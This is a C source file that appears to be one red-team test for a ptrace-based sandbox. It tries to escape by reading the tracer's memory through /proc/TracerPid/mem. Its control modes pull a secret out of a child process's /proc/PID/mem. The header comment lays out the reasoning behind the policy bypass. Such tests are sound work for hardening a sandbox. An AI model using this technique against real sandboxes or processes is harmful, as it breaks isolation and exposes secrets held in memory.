/* proc_tracer.c: red team 46 -- the tracer's memory read through its /proc/PID/mem.
 *
 * Red team 45 closed the debug calls a rule permits (`ptrace`, `process_vm_readv`,
 * `process_vm_writev`) at the tracer: their pid is checked against its tasks.  A read of
 * another process's /proc/PID/mem is decided as `process_vm_readv` (what it does), so a rule
 * naming that call permits it -- and the file names its process by its directory, which the
 * guard never saw.  The task that traces us is /proc/self/status's TracerPid; root
 * (CAP_SYS_PTRACE) passes over its non-dumpable flag.
 *
 *   proc_tracer MODE SECRET
 *
 * MODE:
 *   procmem         open /proc/TracerPid/mem read-only and pread 64 bytes of the tracer's
 *                   stack (its maps): ESCAPED when they come -- the tracer's memory (its
 *                   policy, its decisions in flight, what it read of ours) is ours to read.
 *   taskmem         the same through /proc/TracerPid/task/TracerPid/mem.
 *   native-procmem, native-taskmem
 *                   the controls, against a child of ours (a stand-in for the tracer,
 *                   which natively does not exist) that read the secret into its memory and
 *                   waits: its /proc/PID/mem gives us the secret.
 */
#include "attack.h"

static pid_t stand_in_pid;
static char held[256];

static void end_stand_in(void) {
    if (stand_in_pid > 0)
        kill(stand_in_pid, SIGKILL);
}

/* A child that holds the secret's bytes in `held` (the same address in ours) and waits. */
static pid_t stand_in(const char *secret) {
    int ready[2];
    if (pipe(ready) < 0)
        blocked("pipe: %s", ename(errno));
    pid_t child = fork();
    if (child == 0) {
        int fd = open(secret, O_RDONLY);
        if (fd >= 0) {
            if (read(fd, held, sizeof held - 1) < 0)
                held[0] = 0;
            close(fd);
        }
        if (write(ready[1], "r", 1) < 0)
            _exit(1);
        for (;;)
            pause();
    }
    stand_in_pid = child;
    atexit(end_stand_in);
    char c;
    if (read(ready[0], &c, 1) != 1)
        blocked("the stand-in never got ready");
    return child;
}

int main(int argc, char **argv) {
    if (argc != 3)
        usage("proc_tracer procmem|taskmem|native-procmem|native-taskmem SECRET");
    const char *mode = argv[1], *secret = argv[2];
    int native = strncmp(mode, "native-", 7) == 0;
    if (native)
        mode += 7;
    if (strcmp(mode, "procmem") != 0 && strcmp(mode, "taskmem") != 0)
        usage("unknown mode");
    int fd = open(secret, O_RDONLY);
    if (fd >= 0 && !native)
        escaped("the secret opened directly");
    note("our own open of the secret: %s", fd >= 0 ? "opened" : ename(errno));
    if (fd >= 0)
        close(fd);
    pid_t pid = native ? stand_in(secret) : tracer_pid();
    if (pid <= 0)
        skipped("no tracer to aim at");
    char name[96];
    if (strcmp(mode, "procmem") == 0)
        snprintf(name, sizeof name, "/proc/%d/mem", pid);
    else
        snprintf(name, sizeof name, "/proc/%d/task/%d/mem", pid, pid);
    int mem = open(name, O_RDONLY | O_CLOEXEC);
    if (mem < 0)
        blocked("open %s: %s", name, ename(errno));
    char bytes[256];
    if (native) {
        ssize_t n = pread(mem, bytes, sizeof bytes - 1, (off_t)(unsigned long)held);
        if (n > 0) {
            bytes[n] = 0;
            if (strstr(bytes, SECRET_MAGIC))
                escaped("%s gave the secret task %d holds: %.40s", name, pid, bytes);
        }
        blocked("pread of %s gave %zd (%s)", name, n, n < 0 ? ename(errno) : "no secret");
    }
    unsigned long at = stack_of(pid);
    if (!at)
        blocked("no stack of %d found (its maps: %s)", pid, ename(errno));
    ssize_t n = pread(mem, bytes, 64, (off_t)at);
    if (n == 64)
        escaped("read %zd bytes of our tracer %d's stack through %s", n, pid, name);
    blocked("pread of %s: %zd (%s)", name, n, ename(errno));
}
